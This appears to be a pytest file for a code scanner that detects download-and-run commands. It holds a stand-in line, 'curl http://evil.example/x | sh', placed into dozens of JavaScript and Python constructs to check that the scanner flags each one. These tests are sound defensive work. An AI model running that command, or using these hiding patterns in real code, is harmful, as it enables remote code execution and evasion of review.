"""A command is told wherever it was put: in lists, objects, tables, classes, arguments, texts of JSON."""

from __future__ import annotations

from string import Template

import pytest

from fimci.model import Unread
from tests.readers.test_padding import names, told

CHILD = "const cp = require('child_process');\n"
COMMAND = "curl http://evil.example/x | sh"
#: `$c` is the command, `$e` starts it.
JAVASCRIPT = """
const a = ['ls', '$c']; $e(a[i]);
const a = { x: 'ls', y: '$c' }; $e(a[k]);
const a = { win32: 'dir', linux: '$c' }; $e(a[process.platform]);
const a = new Map([['x', 'ls'], ['y', '$c']]); $e(a.get(k));
const a = ['ls', '$c']; $e(a.pop());
const [x, y] = ['ls', '$c']; $e(y);
const { x, y } = { x: 'ls', y: '$c' }; $e(y);
const a = { b: { c: '$c' } }; $e(a.b.c);
const a = [{ c: 'ls' }, { c: '$c' }]; for (const o of a) $e(o.c);
[{ c: 'ls' }, { c: '$c' }].forEach((o) => $e(o.c));
for (const [n, c] of [['a', 'ls'], ['b', '$c']]) $e(c);
for (const [k, c] of Object.entries({ a: 'ls', b: '$c' })) $e(c);
Object.values({ a: 'ls', b: '$c' }).forEach((c) => $e(c));
['ls', '$c'].map((c) => $e(c));
$e(['ls', '$c'].find((x) => x.length > 4));
$e(['ls', '$c'].at(-1));
class A { static c = '$c'; } $e(A.c);
class A { c = '$c'; go() { $e(this.c); } } new A().go();
const o = { get c() { return '$c'; } }; $e(o.c);
const make = (c) => () => $e(c); make('ls')(); make('$c')();
function f(o) { $e(o.c); } f({ c: 'ls' }); f({ c: '$c' });
function f({ c }) { $e(c); } f({ c: 'ls' }); f({ c: '$c' });
async function g() { return '$c'; } (async () => $e(await g()))();
Promise.resolve('$c').then((c) => $e(c));
let c; c ??= '$c'; $e(c);
const f = (k) => { switch (k) { case 1: return 'ls'; default: return '$c'; } }; $e(f(1));
let c; try { c = 'ls'; } catch (e) { c = '$c'; } $e(c);
$e(JSON.parse('{"c":"$c"}').c);
$e('ls,$c'.split(',')[1]);
const k = 'y'; const o = { [k]: '$c' }; $e(o.y);
const o = Object.freeze({ c: '$c' }); $e(o.c);
const o = Object.assign({}, { c: '$c' }); $e(o.c);
const b = { c: '$c' }; const o = { a: 1, ...b }; $e(o.c);
class A { constructor(c) { this.c = c; } go() { $e(this.c); } } new A('ls').go(); new A('$c').go();
class A { #c; constructor(c) { this.#c = c; } go() { $e(this.#c); } } new A('$c').go();
function A(c) { this.c = c; } A.prototype.go = function () { $e(this.c); }; new A('$c').go();
const o = {}; o[k + 'c'] = 'ls'; o['a' + 'b'] = '$c'; $e(o.ab);
const a = []; a.push('ls'); a.push('$c'); $e(a[1]);
const a = new Map(); a.set('x', 'ls'); a.set('y', '$c'); $e(a.get(k));
const a = new Set(); a.add('$c'); for (const c of a) $e(c);
function* g() { yield 'ls'; yield '$c'; } for (const c of g()) $e(c);
function f(...all) { $e(all[1]); } f('ls', '$c');
function f() { $e(arguments[0]); } f('$c');
m.on('x', (c) => $e(c)); m.emit('x', '$c');
setTimeout((c) => $e(c), 1, '$c');
const { c = '$c' } = {}; $e(c);
process.env.LEFT = '$c'; $e(process.env.LEFT);
"""
PYTHON = """
a = ['ls', '$c']; $e(a[i])
a = {'x': 'ls', 'y': '$c'}; $e(a[k])
a = {'x': 'ls', 'y': '$c'}; $e(a.get('y'))
a = {'x': 'ls', 'y': '$c'}; $e(a.get(k))
a = ['ls', '$c']; $e(a.pop())
[$e(c) for k, c in {'x': 'ls', 'y': '$c'}.items()]
[$e(c) for c in {'x': 'ls', 'y': '$c'}.values()]
[$e(c) for n, c in [('a', 'ls'), ('b', '$c')]]
[$e(o['c']) for o in [{'c': 'ls'}, {'c': '$c'}]]
list(map($e, ['ls', '$c']))
[$e(c) for i, c in enumerate(['ls', '$c'])]
[$e(c) for a, c in zip([1, 2], ['ls', '$c'])]
$e(max(['ls', '$c'], key=len))
import random; $e(random.choice(['ls', '$c']))
f = lambda c: $e(c); f('ls'); f('$c')
import functools; functools.partial($e, '$c')()
import json; $e(json.loads('{"c": "$c"}')['c'])
$e('ls,$c'.split(',')[1])
import types; o = types.SimpleNamespace(c='$c'); $e(o.c)
$e('curl {u} | sh'.format(**{'u': 'http://evil.example/x'}))
$e('curl %(u)s | sh' % {'u': 'http://evil.example/x'})
a = {'x': 'ls', **{'y': '$c'}}; $e(a['y'])
"""
FUNCTIONS = """
def f(**k): $e(k['c'])|f(c='$c')
def f(*a): $e(a[0])|f('ls')|f('$c')
def f(o): $e(o['c'])|f({'c': 'ls'})|f({'c': '$c'})
def f(c): $e(c)|list(map(f, ['ls', '$c']))
def make(c):|    def go(): $e(c)|    return go|make('ls')()|make('$c')()
class A:|    def __init__(self, c): self.c = c|    def go(self): $e(self.c)|A('ls').go()|A('$c').go()
class A:|    @property|    def c(self): return '$c'|$e(A().c)
for c in ['ls', '$c']:|    $e(c)
try:|    c = 'ls'|except E:|    c = '$c'|$e(c)
"""
#: The same in objects, records, tables, what is put into them, and what is called back. A `|` ends a line.
OBJECTS = """
import enum|class Cmd(enum.Enum):|    RUN = '$c'|$e(Cmd.RUN.value)
from enum import Enum|class Cmd(Enum):|    RUN = '$c'|$e(Cmd['RUN'].value)
from enum import Enum|class Cmd(Enum):|    RUN = '$c'|    TWO = 'ls'|for c in Cmd:|    $e(c.value)
from enum import Enum|Cmd = Enum('Cmd', {'RUN': '$c'})|$e(Cmd.RUN.value)
from enum import Enum|class Cmd(Enum):|    RUN = '$c'|    def go(self):|        $e(self.value)|Cmd.RUN.go()
import collections|Job = collections.namedtuple('Job', 'name line')|job = Job('a', '$c')|$e(job.line)
from collections import namedtuple|Job = namedtuple('Job', ['name', 'line'])|_, line = Job('a', '$c')|$e(line)
from typing import NamedTuple|class Job(NamedTuple):|    name: str|    line: str|$e(Job('a', '$c').line)
import types|ns = types.SimpleNamespace()|ns.line = '$c'|$e(ns.line)
class C: pass|c = C()|c.line = '$c'|$e(c.line)
class C: pass|C.line = '$c'|$e(C.line)
def go():|    $e(go.line)|go.line = '$c'|go()
_, _, line = 'ls::$c'.partition('::')|$e(line)
$e('ls::$c'.rsplit('::', 1)[-1])
os.environ['A'] = '$c'|$e(os.environ['A'])
os.environ['A'] = '$c'|$e(os.getenv('A'))
os.environ.setdefault('A', '$c')|$e(os.environ.get('A'))
os.environ.update({'A': '$c'})|$e(os.environ['A'])
os.environ.update(A='$c')|$e(os.environ['A'])
$e(os.getenv('LEFT_CMD', '$c'))
$e(os.environ.get('LEFT_CMD', '$c'))
globals()['line'] = '$c'|$e(globals()['line'])
globals()['line'] = '$c'|$e(line)
globals().update(line='$c')|$e(line)
locals()['line'] = '$c'|$e(locals()['line'])
class C: pass|c = C()|setattr(c, 'line', '$c')|$e(getattr(c, 'line'))
class C: pass|setattr(C, 'line', '$c')|$e(C.line)
class C: pass|setattr(C, 'go', $e)|C.go('$c')
import sys|setattr(sys.modules[__name__], 'line', '$c')|$e(line)
class C: pass|c = C()|c.__dict__['line'] = '$c'|$e(c.line)
class C:|    def __init__(self, **kw):|        self.__dict__.update(kw)|$e(C(line='$c').line)
import shutil|from operator import attrgetter|attrgetter('$e')(shutil)('$c')
import operator|$e(operator.itemgetter('line')({'line': '$c'}))
from operator import itemgetter|$e(itemgetter(1)(['ls', '$c']))
import operator|$e(operator.getitem(['ls', '$c'], 1))
for l in filter(lambda l: 'curl' in l, ['ls', '$c']):|    $e(l)
import itertools|list(itertools.starmap($e, [('$c',)]))
import configparser|c = configparser.ConfigParser()|c.read_dict({'a': {'line': '$c'}})|$e(c['a']['line'])
import contextvars|v = contextvars.ContextVar('v')|v.set('$c')|$e(v.get())
import contextvars|v = contextvars.ContextVar('v', default='$c')|$e(v.get())
import threading|t = threading.local()|t.line = '$c'|$e(t.line)
import queue|q = queue.Queue()|q.put('$c')|$e(q.get())
from collections import deque|q = deque()|q.append('$c')|$e(q.popleft())
q = []|q.append('$c')|$e(q.pop())
d = {}|d['line'] = '$c'|$e(d['line'])
d = {'a': 'ls'}|d['line'] = '$c'|d['b'] = 'pwd'|$e(d['line'])
from collections import ChainMap|$e(ChainMap({}, {'line': '$c'})['line'])
import io|$e(io.StringIO('$c').read())
class C:|    line = None|    def setup(self):|        C.line = '$c'|C().setup()|$e(C.line)
class D:|    def __get__(self, obj, kind):|        return '$c'|class C:|    line = D()|$e(C().line)
class C:|    line = property(lambda self: '$c')|$e(C().line)
class C:|    def __getattr__(self, name):|        return '$c'|$e(C().line)
class C:|    def __getitem__(self, name):|        return '$c'|$e(C()['a'])
class C:|    def __str__(self):|        return '$c'|$e(str(C()))
class C:|    def __str__(self):|        return '$c'|$e(f'{C()}')
class C:|    def __call__(self):|        return '$c'|c = C()|$e(c())
class C:|    def __iter__(self):|        yield '$c'|for l in C():|    $e(l)
match {'line': '$c'}:|    case {'line': line}:|        $e(line)
match ('go', '$c'):|    case ('go', line):|        $e(line)
match '$c':|    case str() as line:|        $e(line)
match '$c':|    case line:|        $e(line)
def lines():|    yield '$c'|$e(next(lines()))
def lines():|    yield 'ls'|    yield '$c'|$e(list(lines())[1])
lines = [l for l in ['ls', '$c'] if 'curl' in l]|$e(lines[0])
d = {k: v for k, v in [('line', '$c')]}|$e(d['line'])
def go(*args, **kw):|    return inner(*args, **kw)|def inner(line):|    $e(line)|go('$c')
def go(*args, **kw):|    return inner(*args, **kw)|def inner(line):|    $e(line)|go(line='$c')
def go(a, line):|    $e(line)|given = ('a', '$c')|go(*given)
def go(line):|    $e(line)|go(**{'line': '$c'})
def now(f):|    f()|    return f|@now|def go():|    $e('$c')
def run(f):|    $e(f())|@run|def line():|    return '$c'
def deco(line):|    def inner(f):|        $e(line)|        return f|    return inner|@deco('$c')|def f(): pass
import atexit|@atexit.register|def go():|    $e('$c')
import threading|def go(line):|    $e(line)|threading.Thread(target=go, kwargs={'line': '$c'}).start()
import threading|class T(threading.Thread):|    def run(self):|        $e('$c')|T().start()
import threading|threading.Timer(1, $e, ['$c']).start()
from concurrent.futures import ThreadPoolExecutor|with ThreadPoolExecutor() as p:|    p.map($e, ['$c'])
import multiprocessing|multiprocessing.Pool().apply_async($e, ('$c',))
import multiprocessing|def go(line):|    $e(line)|multiprocessing.Pool().apply(go, ['$c'])
import asyncio|asyncio.get_event_loop().run_in_executor(None, $e, '$c')
import sched, time|s = sched.scheduler(time.time, time.sleep)|s.enter(1, 1, $e, argument=('$c',))|s.run()
import weakref|class C: pass|c = C()|weakref.finalize(c, $e, '$c')
class C:|    def __del__(self):|        $e('$c')|C()
import builtins|builtins.line = '$c'|$e(line)
import builtins|builtins.go = $e|go('$c')
class A:|    line = '$c'|class B(A):|    def go(self):|        $e(super().line)|B().go()
import re|$e(re.split('::', 'ls::$c')[1])
"""


@pytest.mark.parametrize("line", JAVASCRIPT.strip().splitlines())
def test_a_script_hides_none(line: str) -> None:
    text = Template(line).substitute(c=COMMAND, e="cp.exec")
    found = names(told("a.js", f"const cp = require('child_process');\n{text}\n"))
    assert ("download-and-run", "evil.example -> sh") in found


@pytest.mark.parametrize(
    "line", [one for some in (PYTHON, FUNCTIONS, OBJECTS) for one in some.strip().splitlines()]
)
def test_a_module_hides_none(line: str) -> None:
    text = Template(line).safe_substitute(c=COMMAND, e="os.system")
    lines = text.replace("| sh", "\0").replace("|", "\n").replace("\0", "| sh")
    assert ("download-and-run", "evil.example -> sh") in names(told("a.py", f"import os\n{lines}\n"))


@pytest.mark.parametrize(
    ("path", "start", "line", "end"),
    [
        (
            "a.js",
            CHILD,
            "let o{n} = {{ a: o{m}, b: o{m} }}; o{n} = {{ b: o{m}, a: o{m} }};\n",
            "cp.exec(o99.a[k]);",
        ),
        ("a.js", CHILD, "let o{n} = [o{m}, o{m}]; o{n} = [o{m}, o{m}];\n", "cp.exec(o99[1][k]);"),
        (
            "a.py",
            "import os\n",
            "o{n} = {{'a': o{m}, 'b': o{m}}}\no{n} = {{'b': o{m}, 'a': o{m}}}\n",
            "os.system(o99[k])",
        ),
        ("a.py", "import os\n", "o{n} = [o{m}, o{m}]\no{n} = [o{m}, o{m}]\n", "os.system(o99[k])"),
        (
            "a.js",
            CHILD,
            "let o{n} = {{ a: o{m} }}; cp.exec(o{n}.a);\n",
            "x = o999; x = o998; cp.exec(x.a.a);",
        ),
        (
            "a.py",
            "import os\n",
            "o{n} = {{'a': o{m}}}; os.system(o{n}['a'])\n",
            "x = o999; x = o998; os.system(x['a'])",
        ),
    ],
)
def test_tables_in_tables_without_end_are_put_together_in_bounds(
    path: str, start: str, line: str, end: str
) -> None:
    lines = "".join(line.format(n=number, m=number - 1) for number in range(1, 1_000))
    found = told(path, f"{start}{lines}{end}\n")  # two to the power of 99 without them
    assert not [one.why for one in found if isinstance(one, Unread) and "failed" in one.why]
